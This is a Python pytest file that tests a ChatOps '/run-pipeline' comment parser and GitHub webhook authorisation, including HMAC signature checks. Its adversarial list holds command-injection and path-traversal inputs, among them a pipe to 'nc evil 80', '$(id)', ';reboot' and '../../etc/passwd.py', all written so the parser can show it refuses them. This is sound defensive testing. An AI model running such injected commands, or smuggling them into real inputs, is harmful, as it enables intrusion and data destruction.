"""``/run-pipeline`` comments: the grammar, the checks against the repository,
the authorisation of real GitHub webhook payloads, and adversarial input.

Every refusal must come with a reason (one line on stderr, exit 1) and plan no
run (nothing on stdout).  Payloads are the corpus's real GitHub examples,
changed in the test where a case needs it (e.g. made a pull-request comment).
"""

from __future__ import annotations

import copy
import hashlib
import hmac
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from precommit_hooks.access import authorize as authorize_module
from precommit_hooks.access import chatops

from precommit_hooks import cli
from precommit_hooks.core.findings import Refusal

EXAMPLE_COMMENT = (
    '/run-pipeline example_pipeline.py params={"name":"x","value":"206"}, '
    '{"name":"seed","value":"3007"}'
)

EXAMPLE_PIPELINE = '''\
"""A pipeline with two integer inputs, as in the README's example comment."""
from kfp import dsl


@dsl.component(base_image="python:3.11-slim")
def add(x: int, seed: int) -> int:
    return x + seed


@dsl.pipeline(name="example-pipeline")
def example_pipeline(x: int = 1, seed: int = 42):
    add(x=x, seed=seed)
'''

TYPED_PIPELINE = '''\
"""One input of every parameter type, and one without a default."""
from kfp import dsl


@dsl.component(base_image="python:3.11-slim")
def show(count: int, text: str, rate: float, flag: bool, items: list, config: dict):
    print(count, text, rate, flag, items, config)


@dsl.pipeline(name="typed-pipeline")
def typed_pipeline(
    count: int,
    text: str = "a",
    rate: float = 0.5,
    flag: bool = False,
    items: list = [1],
    config: dict = {"k": 1},
):
    show(count=count, text=text, rate=rate, flag=flag, items=items, config=config)
'''


# --- fixtures -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A checkout with two pipelines, a non-pipeline file and symlinks."""
    root = tmp_path_factory.mktemp("chatops") / "repo"
    workflows = root / "workflows"
    (workflows / "nested").mkdir(parents=True)
    (workflows / "example_pipeline.py").write_text(EXAMPLE_PIPELINE)
    (workflows / "typed_pipeline.py").write_text(TYPED_PIPELINE)
    (workflows / "nested" / "broken_pipeline.py").write_text("import nothing_here\n")
    (workflows / "notes.txt").write_text("not python\n")
    outside = root.parent / "outside_pipeline.py"
    outside.write_text(EXAMPLE_PIPELINE)
    (workflows / "escape_pipeline.py").symlink_to(outside)
    (workflows / "alias_pipeline.py").symlink_to(workflows / "example_pipeline.py")
    (root / "setup_pipeline.py").write_text(EXAMPLE_PIPELINE)
    return root


_SPECS: dict[str, Any] = {}


def cached_inputs(path: str) -> dict[str, dict[str, Any]]:
    """The real compile-and-read, once per file per test run (it takes seconds)."""
    key = os.path.realpath(path)
    if key not in _SPECS:
        _SPECS[key] = chatops.pipeline_input_specs_of(path)
    return _SPECS[key]


@pytest.fixture(scope="module")
def webhooks(corpus: Path) -> Path:
    return corpus / "github-webhooks"


def load(webhooks: Path, name: str) -> dict[str, Any]:
    return json.loads((webhooks / name).read_text(encoding="utf-8"))


def on_pull_request(event: dict[str, Any], body: str = EXAMPLE_COMMENT) -> dict:
    """The real payload, moved onto a pull request (as GitHub marks it)."""
    event = copy.deepcopy(event)
    issue = event["issue"]
    base = issue["url"].replace("/issues/", "/pulls/")
    issue["pull_request"] = {
        "url": base,
        "html_url": issue["html_url"].replace("/issues/", "/pull/"),
        "diff_url": issue["html_url"].replace("/issues/", "/pull/") + ".diff",
        "patch_url": issue["html_url"].replace("/issues/", "/pull/") + ".patch",
    }
    event["comment"]["body"] = body
    return event


@pytest.fixture()
def profiles(tmp_path: Path) -> Path:
    path = tmp_path / "profiles.yaml"
    path.write_text(textwrap.dedent("""\
            profiles:
              name: hello-world
              admins:
                - email: octo@example.com
                  github: Codertocat
              contributors:
                - email: bob@example.com
                  github: bob-gh
            """))
    return path


@pytest.fixture()
def outsiders(tmp_path: Path) -> Path:
    path = tmp_path / "outsiders.yaml"
    path.write_text(
        "profiles:\n  name: hello-world\n  admins:\n"
        "    - email: alice@example.com\n      github: alice-gh\n"
        "  contributors: []\n"
    )
    return path


def dsp(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    argv: list[str],
    stdin: bytes = b"",
) -> tuple[int, str, str]:
    """Run ``dsp`` in-process through cli.main with ``stdin``."""
    import io

    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin)))
    code = cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def refused(code: int, out: str, err: str, reason: str) -> None:
    """A refusal: exit 1, one line naming the reason, nothing planned on stdout."""
    assert code == 1, (out, err)
    assert out == "", "a refused command must not print a plan"
    assert err.count("\n") == 1 and err.endswith("\n"), err
    assert reason.lower() in err.lower(), err
    assert "Traceback" not in err


# --- the grammar ----------------------------------------------------------------------


def test_example_comment_parses_to_pipeline_and_params() -> None:
    request = chatops.parse_comment(EXAMPLE_COMMENT)
    assert request.as_json() == {
        "pipeline": "workflows/example_pipeline.py",
        "params": {"x": "206", "seed": "3007"},
    }


def test_example_comment_against_the_repository_through_dsp(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, repo: Path
) -> None:
    code, out, err = dsp(
        capsys,
        monkeypatch,
        ["parse-comment", "--repo", str(repo)],
        EXAMPLE_COMMENT.encode(),
    )
    assert (code, err) == (0, "")
    assert json.loads(out) == {
        "pipeline": "workflows/example_pipeline.py",
        "params": {"x": "206", "seed": "3007"},
    }


@pytest.mark.parametrize(
    ("comment", "pipeline", "params"),
    [
        ("/run-pipeline iris_pipeline.py", "workflows/iris_pipeline.py", {}),
        ("/run-pipeline workflows/iris_pipeline.py", "workflows/iris_pipeline.py", {}),
        ("/run-pipeline a/b_pipeline.py", "workflows/a/b_pipeline.py", {}),
        (
            "/run-pipeline x.py x=206 seed=3007",
            "workflows/x.py",
            {"x": "206", "seed": "3007"},
        ),
        (
            '/run-pipeline x.py params=[{"name": "x", "value": 206}]',
            "workflows/x.py",
            {"x": 206},
        ),
        (
            '/run-pipeline x.py params={"name":"x","value":"1"} seed=2',
            "workflows/x.py",
            {"x": "1", "seed": "2"},
        ),
        (
            '/run-pipeline x.py text="two words"',
            "workflows/x.py",
            {"text": "two words"},
        ),
        (
            '/run-pipeline x.py items=[1,2] cfg={"a":1}',
            "workflows/x.py",
            {"items": [1, 2], "cfg": {"a": 1}},
        ),
        ("/run-pipeline\tx.py   a=1\t", "workflows/x.py", {"a": "1"}),
        (
            "/run-pipeline x.py a=1\r\nthanks!\n/run-pipeline y.py",
            "workflows/x.py",
            {"a": "1"},
        ),
        (
            "/run-pipeline x.py src=lakefs://repo/main/data.csv",
            "workflows/x.py",
            {"src": "lakefs://repo/main/data.csv"},
        ),
    ],
)
def test_grammar_accepts(comment: str, pipeline: str, params: dict[str, Any]) -> None:
    assert chatops.parse_comment(comment).as_json() == {
        "pipeline": pipeline,
        "params": params,
    }


ADVERSARIAL = [
    # shell metacharacters, command substitution, backticks: in the value or the path
    ("/run-pipeline example_pipeline.py x=206;reboot", "';'"),
    ("/run-pipeline example_pipeline.py x=1|nc evil 80", "'|'"),
    ("/run-pipeline example_pipeline.py x=1&&id", "'&'"),
    ("/run-pipeline example_pipeline.py x=$(id)", "'$'"),
    ('/run-pipeline example_pipeline.py params={"name":"x","value":"$(id)"}', "'$'"),
    ("/run-pipeline example_pipeline.py x=`id`", "'`'"),
    ("/run-pipeline example_pipeline.py x=a>b", "'>'"),
    ('/run-pipeline example_pipeline.py x="a\\\\b"', "'\\\\'"),
    ('/run-pipeline example_pipeline.py x=["ok",{"k":"a;b"}]', "';'"),
    ("/run-pipeline example_pipeline.py;id", "characters other than"),
    ("/run-pipeline $(id).py", "characters other than"),
    ("/run-pipeline `id`.py", "characters other than"),
    ("/run-pipeline example_pipeline.py $(id)", "unexpected '$(id)'"),
    # paths
    ("/run-pipeline ../../etc/passwd.py", "'..'"),
    ("/run-pipeline workflows/../setup_pipeline.py", "'..'"),
    ("/run-pipeline ./example_pipeline.py", "'.'"),
    ("/run-pipeline /etc/example_pipeline.py", "absolute path"),
    ("/run-pipeline ~/example_pipeline.py", "absolute path"),
    ("/run-pipeline C:/x/example_pipeline.py", "absolute path"),
    ("/run-pipeline \\\\server\\share\\x.py", "absolute path"),
    ("/run-pipeline example_pipeline", "not a .py file"),
    ("/run-pipeline workflows/notes.txt", "not a .py file"),
    ("/run-pipeline " + "a/" * 120 + "x.py", "at most 200"),
    # the params are not JSON, or not the {name, value} shape
    ("/run-pipeline example_pipeline.py params={name:x,value:1}", "not valid JSON"),
    ("/run-pipeline example_pipeline.py params=x=1", "expects a"),
    ("/run-pipeline example_pipeline.py params=", "params= is empty"),
    ('/run-pipeline example_pipeline.py params={"name":"x"}', "just those two keys"),
    ('/run-pipeline example_pipeline.py params={"name":"x","value":1,"y":2}', "just"),
    (
        '/run-pipeline example_pipeline.py params={"name":"x","value":1} {"name":"y"',
        "unexpected",
    ),
    ('/run-pipeline example_pipeline.py params=[{"name":"x","value":NaN}]', "NaN"),
    (
        '/run-pipeline example_pipeline.py params={"name":"x","value":null}',
        "no usable value",
    ),
    (
        '/run-pipeline example_pipeline.py params={"name":"x-y","value":1}',
        "not a Python identifier",
    ),
    ('/run-pipeline example_pipeline.py params="x"', "expects a"),
    ("/run-pipeline example_pipeline.py params=" + "[" * 1500, "nested too deeply"),
    # other grammar errors
    ("/run-pipeline example_pipeline.py x=1 x=2", "given twice"),
    ("/run-pipeline example_pipeline.py just-a-word", "unexpected 'just-a-word'"),
    ("/run-pipeline", "needs the pipeline file"),
    ("/run-pipelines example_pipeline.py", "unknown command"),
    (
        "/run-pipeline"
        + "".join(f" p{i}=1" for i in range(40)).replace(" p0", " x.py p0"),
        "more than 32",
    ),
    ("/run-pipeline example_pipeline.py x=" + "9" * 2000, "at most 1024"),
    # size, lines, look-alikes, invisible characters
    ("/run-pipeline example_pipeline.py " + "a" * 100_000, "over the 4096-byte limit"),
    ("/run-pipeline example_pipeline.py x=" + "1" * 3000, "2048-character limit"),
    ("Please run it:\n/run-pipeline example_pipeline.py", "first line"),
    ("\n/run-pipeline example_pipeline.py", "first line"),
    (" /run-pipeline example_pipeline.py", "very start"),
    ("/run\u2010pipeline example_pipeline.py", "U+2010"),
    ("/run\u2011pipeline example_pipeline.py", "U+2011"),
    ("/run\u2013pipeline example_pipeline.py", "U+2013"),
    ("/run\u2212pipeline example_pipeline.py", "U+2212"),
    ("/run\u200bpipeline example_pipeline.py", "U+200B"),
    ("/run-pipeline example_pipeline.py params={\u201cname\u201d:1}", "U+201C"),
    ("/run-pipeline\u00a0example_pipeline.py", "U+00A0"),
    ("/run-pipeline example_pipeline.py x=1\u202e", "U+202E"),
    ("LGTM, thanks", "does not start with /run-pipeline"),
]


@pytest.mark.parametrize(("comment", "reason"), ADVERSARIAL)
def test_adversarial_comments_are_refused_with_a_reason(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    comment: str,
    reason: str,
) -> None:
    code, out, err = dsp(capsys, monkeypatch, ["parse-comment"], comment.encode())
    refused(code, out, err, reason)


def test_non_utf8_comment_is_refused(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = dsp(
        capsys, monkeypatch, ["parse-comment"], b"/run-pipeline x.py a=\xff"
    )
    refused(code, out, err, "not UTF-8")


def test_closed_stdin_is_refused(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdin", None)  # what Python sets for `dsp ... <&-`
    code = cli.main(["parse-comment"])
    out, err = capsys.readouterr()
    refused(code, out, err, "no comment on stdin; pipe the comment body")


def test_oversized_stdin_is_not_read_whole(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = dsp(
        capsys, monkeypatch, ["parse-comment"], b"/run-pipeline x.py " + b"a" * 10**7
    )
    refused(code, out, err, "4096-byte limit")


# --- against the repository -----------------------------------------------------------


@pytest.mark.parametrize(
    ("comment", "reason"),
    [
        ("/run-pipeline example_pipeline.py foo=1", "unknown parameter 'foo'"),
        ("/run-pipeline example_pipeline.py x=abc", "(integer) must be an integer"),
        ("/run-pipeline example_pipeline.py x=1.5", "whole number"),
        ('/run-pipeline example_pipeline.py params={"name":"x","value":true}', "whole"),
        ("/run-pipeline missing_pipeline.py", "does not exist"),
        ("/run-pipeline escape_pipeline.py", "outside workflows/"),
        ("/run-pipeline nested/broken_pipeline.py", "does not compile"),
        ("/run-pipeline typed_pipeline.py", "needs a value for 'count'"),
        (
            "/run-pipeline typed_pipeline.py count=1 rate=fast",
            "(float) must be a finite",
        ),
        ("/run-pipeline typed_pipeline.py count=1 rate=inf", "finite number"),
        ("/run-pipeline typed_pipeline.py count=1 flag=yes", "true or false"),
        ("/run-pipeline typed_pipeline.py count=1 items={}", "JSON list"),
        ('/run-pipeline typed_pipeline.py count=1 config="[1]"', "JSON object"),
        (
            '/run-pipeline typed_pipeline.py count=1 params={"name":"text","value":5}',
            "must be a string",
        ),
    ],
)
def test_checks_against_the_repository(repo: Path, comment: str, reason: str) -> None:
    request = chatops.parse_comment(comment)
    with pytest.raises(Refusal) as caught:
        chatops.check_against_repo(request, str(repo), cached_inputs)
    assert reason in str(caught.value)


def test_typed_values_fit_their_types(repo: Path) -> None:
    request = chatops.parse_comment(
        "/run-pipeline typed_pipeline.py count=3 text=hello rate=2 flag=TRUE "
        'items=[1,"a"] config={"k":[1]}'
    )
    chatops.check_against_repo(request, str(repo), cached_inputs)
    specs = cached_inputs(str(repo / "workflows" / "typed_pipeline.py"))
    typed = chatops.check_params(request.params, specs, request.pipeline)
    assert typed == {
        "count": 3,
        "text": "hello",
        "rate": 2.0,
        "flag": True,
        "items": [1, "a"],
        "config": {"k": [1]},
    }


def test_symlink_inside_workflows_is_followed(repo: Path) -> None:
    request = chatops.parse_comment("/run-pipeline alias_pipeline.py x=1")
    assert chatops.check_against_repo(request, str(repo), cached_inputs) is request


def test_repo_without_workflows_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Refusal, match="no workflows/ folder"):
        chatops.resolve_pipeline(str(tmp_path), "workflows/x.py")


def test_compiled_output_keeps_the_compiled_pipeline(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    repo: Path,
    tmp_path: Path,
) -> None:
    output = tmp_path / "pipeline.yaml"
    argv = ["parse-comment", "--repo", str(repo), "--compiled-output", str(output)]
    code, out, err = dsp(
        capsys, monkeypatch, argv, b"/run-pipeline example_pipeline.py"
    )
    assert (code, err) == (0, "")
    assert "example-pipeline" in output.read_text()
    code, out, err = dsp(
        capsys, monkeypatch, ["parse-comment", "--compiled-output", str(output)], b""
    )
    refused(code, out, err, "needs --repo")


def test_compiled_output_that_cannot_take_a_file_is_refused_before_compiling(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    repo: Path,
    tmp_path: Path,
) -> None:
    def no_compile(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("compiled before the output path was checked")

    monkeypatch.setattr(chatops, "pipeline_input_specs_of", no_compile)
    (tmp_path / "a-file").write_text("x")
    for output, reason in (
        (tmp_path, f"--compiled-output {tmp_path}: is a folder; name the YAML file"),
        (
            tmp_path / "a-file" / "p.yaml",
            f"the folder {tmp_path / 'a-file'} does not exist or is a file",
        ),
        (tmp_path / "nowhere" / "p.yaml", "create the folder first"),
    ):
        argv = ["parse-comment", "--repo", str(repo), "--compiled-output", str(output)]
        code, out, err = dsp(
            capsys, monkeypatch, argv, b"/run-pipeline example_pipeline.py"
        )
        refused(code, out, err, reason)
    assert (tmp_path / "a-file").read_text() == "x"


def test_unknown_parameter_through_dsp_names_the_inputs(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, repo: Path
) -> None:
    code, out, err = dsp(
        capsys,
        monkeypatch,
        ["parse-comment", "--repo", str(repo)],
        b"/run-pipeline example_pipeline.py foo=1",
    )
    refused(code, out, err, "unknown parameter 'foo': workflows/example_pipeline.py")
    assert "seed, x" in err


def test_console_script_parses_the_example(repo: Path) -> None:
    """The real ``dsp`` console script, as the Tekton step runs it."""
    script = Path(sys.executable).with_name("dsp")
    done = subprocess.run(
        [str(script), "parse-comment", "--repo", str(repo)],
        input=EXAMPLE_COMMENT.encode(),
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {
        "pipeline": "workflows/example_pipeline.py",
        "params": {"x": "206", "seed": "3007"},
    }
    bad = subprocess.run(
        [str(script), "parse-comment"],
        input="/run\u2010pipeline example_pipeline.py".encode(),
        capture_output=True,
        timeout=60,
    )
    assert bad.returncode == 1 and bad.stdout == b""
    assert b"U+2010" in bad.stderr and b"Traceback" not in bad.stderr


# --- authorisation on real payloads ---------------------------------------------------


def authorize(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    event: dict[str, Any],
    profiles: Path,
    *extra: str,
) -> tuple[int, str, str]:
    payload = tmp_path / "event.json"
    payload.write_text(json.dumps(event))
    argv = ["authorize", "--payload", str(payload), "--profiles", str(profiles)]
    return dsp(capsys, monkeypatch, argv + list(extra))


@pytest.mark.parametrize(
    "name",
    [
        "issue_comment/created.payload.json",
        "issue_comment/created.1.payload.json",
        "issue_comment/created.with-organization.payload.json",
        "issue_comment/created.with-installation.payload.json",
    ],
)
def test_created_pr_comment_by_a_listed_owner_is_authorised(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    profiles: Path,
    name: str,
) -> None:
    event = on_pull_request(load(webhooks, name))
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    assert (code, err) == (0, "")
    assert json.loads(out) == {
        "pr": event["issue"]["number"],
        "commenter": "Codertocat",
        "repo": "Codertocat/Hello-World",
    }


def test_login_match_ignores_case(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    profiles: Path,
) -> None:
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    event["comment"]["user"]["login"] = event["sender"]["login"] = "BOB-gh"
    event["comment"]["author_association"] = "COLLABORATOR"
    code, out, _ = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    assert code == 0 and json.loads(out)["commenter"] == "BOB-gh"


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        ("issue_comment/edited.payload.json", None, "was edited, not created"),
        ("issue_comment/edited.with-organization.payload.json", None, "edited"),
        ("issue_comment/deleted.payload.json", None, "was deleted, not created"),
        ("issue_comment/deleted.with-organization.payload.json", None, "deleted"),
        (
            "issue_comment/created.payload.json",
            lambda e: e["comment"].update(author_association="NONE"),
            "is NONE on this repository",
        ),
        (
            "issue_comment/created.payload.json",
            lambda e: e["comment"].update(author_association="CONTRIBUTOR"),
            "only OWNER, MEMBER, COLLABORATOR",
        ),
        (
            "issue_comment/created.payload.json",
            lambda e: e["issue"].pop("pull_request"),
            "is an issue, not a pull request",
        ),
        (
            "issue_comment/created.payload.json",
            lambda e: e["sender"].update(login="mallory"),
            "is not the commenter",
        ),
        (
            "issue_comment/created.payload.json",
            lambda e: e["comment"]["user"].update(type="Bot"),
            "is a bot",
        ),
        (
            "issue_comment/created.payload.json",
            lambda e: e["comment"]["user"].update(login="stranger", **{}),
            "sender 'Codertocat' is not the commenter 'stranger'",
        ),
    ],
)
def test_refused_events(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    profiles: Path,
    name: str,
    change: Any,
    reason: str,
) -> None:
    event = on_pull_request(load(webhooks, name))
    if change:
        change(event)
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    refused(code, out, err, reason)


@pytest.mark.parametrize(
    ("number", "shown"),
    [
        ("12", '"12"'),
        (1.5, "1.5"),
        (0, "0"),
        (-3, "-3"),
        (True, "true"),
        (None, "null"),
    ],
)
def test_pr_number_must_be_a_positive_integer(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    profiles: Path,
    number: Any,
    shown: str,
) -> None:
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    event["issue"]["number"] = number
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    refused(code, out, err, f"issue.number {shown} is not a pull request number")
    assert "must be a positive integer" in err


def test_commenter_not_in_profiles_is_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    outsiders: Path,
) -> None:
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, outsiders)
    refused(code, out, err, "'Codertocat' is not in")


def test_member_without_github_login_cannot_run(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
) -> None:
    profiles = tmp_path / "profiles.yaml"
    profiles.write_text(
        "profiles:\n  name: hello\n  admins:\n    - codertocat@example.com\n"
        "  contributors: []\n"
    )
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    refused(code, out, err, "not in")


def test_invalid_profiles_file_is_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
) -> None:
    profiles = tmp_path / "profiles.yaml"
    profiles.write_text("profiles:\n  name: Bad Name\n  admins: []\n")
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    code, out, err = authorize(capsys, monkeypatch, tmp_path, event, profiles)
    refused(code, out, err, "profiles file refused")


@pytest.mark.parametrize(
    "name",
    [
        "pull_request/opened.payload.json",
        "push/payload.json",
        "ping/payload.json",
    ],
)
def test_other_events_are_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    webhooks: Path,
    profiles: Path,
    name: str,
) -> None:
    code, out, err = authorize(
        capsys, monkeypatch, tmp_path, load(webhooks, name), profiles
    )
    refused(code, out, err, "not an issue_comment event")


def test_payload_that_is_not_json_is_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    profiles: Path,
) -> None:
    payload = tmp_path / "event.json"
    payload.write_bytes(b"{not json")
    code, out, err = dsp(
        capsys,
        monkeypatch,
        ["authorize", "--payload", str(payload), "--profiles", str(profiles)],
    )
    refused(code, out, err, "not a JSON webhook payload")


def test_deeply_nested_payload_is_refused_in_one_line(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    profiles: Path,
) -> None:
    payload = tmp_path / "event.json"
    payload.write_text('{"a":' * 100_000 + "1" + "}" * 100_000)
    argv = ["authorize", "--payload", str(payload), "--profiles", str(profiles)]
    code, out, err = dsp(capsys, monkeypatch, argv)
    refused(code, out, err, "event.json is not a JSON webhook payload: nested too deep")


def test_null_payload_is_refused_as_an_event(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    profiles: Path,
) -> None:
    payload = tmp_path / "event.json"
    payload.write_text("null")
    argv = ["authorize", "--payload", str(payload), "--profiles", str(profiles)]
    code, out, err = dsp(capsys, monkeypatch, argv)
    refused(code, out, err, "not an issue_comment event")


def test_pipe_or_folder_as_payload_is_refused_without_reading(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    profiles: Path,
    fifo: Path,
) -> None:
    for option in ("--payload", "--body-file"):
        for path, problem in (
            (fifo, "is not a regular file (a pipe or device?)"),
            (tmp_path, "is a folder, not a file"),
        ):
            argv = ["authorize", option, str(path), "--profiles", str(profiles)]
            if option == "--body-file":
                argv += ["--signature", "sha256=" + "0" * 64, "--secret-env", "S"]
                monkeypatch.setenv("S", "secret")
            code, out, err = dsp(capsys, monkeypatch, argv)
            refused(code, out, err, f"dsp authorize: {path}: {problem}; name the ")


# --- the webhook signature ------------------------------------------------------------


def sign(body: bytes, secret: str) -> str:
    """GitHub's X-Hub-Signature-256 (HMAC-SHA256 of the raw body, hex)."""
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


@pytest.fixture()
def signed(tmp_path: Path, webhooks: Path) -> tuple[Path, bytes]:
    event = on_pull_request(load(webhooks, "issue_comment/created.payload.json"))
    body = json.dumps(event, indent=2).encode()
    path = tmp_path / "body.raw"
    path.write_bytes(body)
    return path, body


def signed_argv(path: Path, profiles: Path, signature: str) -> list[str]:
    return [
        "authorize",
        "--profiles",
        str(profiles),
        "--body-file",
        str(path),
        "--signature",
        signature,
        "--secret-env",
        "TEST_WEBHOOK_SECRET",
    ]


def test_valid_signature_is_accepted(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    signed: tuple[Path, bytes],
    profiles: Path,
) -> None:
    path, body = signed
    monkeypatch.setenv("TEST_WEBHOOK_SECRET", "s3cret")
    argv = signed_argv(path, profiles, sign(body, "s3cret"))
    code, out, err = dsp(capsys, monkeypatch, argv + ["--payload", str(path)])
    assert (code, err) == (0, "")
    assert json.loads(out)["commenter"] == "Codertocat"


@pytest.mark.parametrize(
    ("forge", "reason"),
    [
        (lambda body: sign(body, "guessed"), "does not match"),
        (lambda body: sign(body + b" ", "s3cret"), "does not match"),
        (lambda body: sign(body, "s3cret").upper(), "not 'sha256=<64 hex digits>'"),
        (lambda body: "sha1=" + "0" * 40, "not 'sha256="),
        (lambda body: "sha256=", "not 'sha256="),
        (lambda body: sign(body, "s3cret")[:-1], "not 'sha256="),
    ],
)
def test_forged_signatures_are_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    signed: tuple[Path, bytes],
    profiles: Path,
    forge: Any,
    reason: str,
) -> None:
    path, body = signed
    monkeypatch.setenv("TEST_WEBHOOK_SECRET", "s3cret")
    code, out, err = dsp(capsys, monkeypatch, signed_argv(path, profiles, forge(body)))
    refused(code, out, err, reason)


def test_tampered_body_is_refused(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    signed: tuple[Path, bytes],
    profiles: Path,
) -> None:
    path, body = signed
    signature = sign(body, "s3cret")
    path.write_bytes(body.replace(b"Codertocat", b"Codertocak", 1))
    monkeypatch.setenv("TEST_WEBHOOK_SECRET", "s3cret")
    code, out, err = dsp(capsys, monkeypatch, signed_argv(path, profiles, signature))
    refused(code, out, err, "does not match")


def test_payload_must_be_the_signed_body(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    signed: tuple[Path, bytes],
    profiles: Path,
    tmp_path: Path,
) -> None:
    path, body = signed
    other = json.loads(body)
    other["comment"]["author_association"] = "OWNER"
    other["comment"]["user"]["login"] = other["sender"]["login"] = "bob-gh"
    payload = tmp_path / "other.json"
    payload.write_text(json.dumps(other))
    monkeypatch.setenv("TEST_WEBHOOK_SECRET", "s3cret")
    argv = signed_argv(path, profiles, sign(body, "s3cret")) + [
        "--payload",
        str(payload),
    ]
    code, out, err = dsp(capsys, monkeypatch, argv)
    refused(code, out, err, "is not the signed body")


def test_signature_options_come_together_and_need_the_secret(
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    signed: tuple[Path, bytes],
    profiles: Path,
) -> None:
    path, body = signed
    monkeypatch.delenv("TEST_WEBHOOK_SECRET", raising=False)
    code, out, err = dsp(
        capsys, monkeypatch, signed_argv(path, profiles, sign(body, "s3cret"))
    )
    refused(code, out, err, "TEST_WEBHOOK_SECRET holding the secret is unset")
    argv = ["authorize", "--profiles", str(profiles), "--body-file", str(path)]
    code, out, err = dsp(capsys, monkeypatch, argv)
    refused(code, out, err, "pass --body-file, --signature and --secret-env")


def test_verify_signature_compares_in_constant_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls: list[tuple[str, str]] = []
    real = hmac.compare_digest

    def spy(a: str, b: str) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(authorize_module.hmac, "compare_digest", spy)
    authorize_module.verify_signature(b"body", sign(b"body", "k"), b"k")
    assert len(calls) == 1


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deep_params_are_refused_whatever_the_recursion_limit(opening: str) -> None:
    # Other libraries (cel-python) raise the limit; the cap must not depend on it.
    original = sys.getrecursionlimit()
    sys.setrecursionlimit(10_000)
    try:
        body = "/run-pipeline example_pipeline.py params=" + opening * 17
        with pytest.raises(Refusal, match="nested too deeply"):
            chatops.parse_comment(body)
    finally:
        sys.setrecursionlimit(original)


def test_strings_that_look_like_brackets_do_not_count_as_nesting() -> None:
    value = "[" * 40
    request = chatops.parse_comment(
        '/run-pipeline example_pipeline.py params={"name": "x", "value": "'
        + value
        + '"}'
    )
    assert request.params == {"x": value}
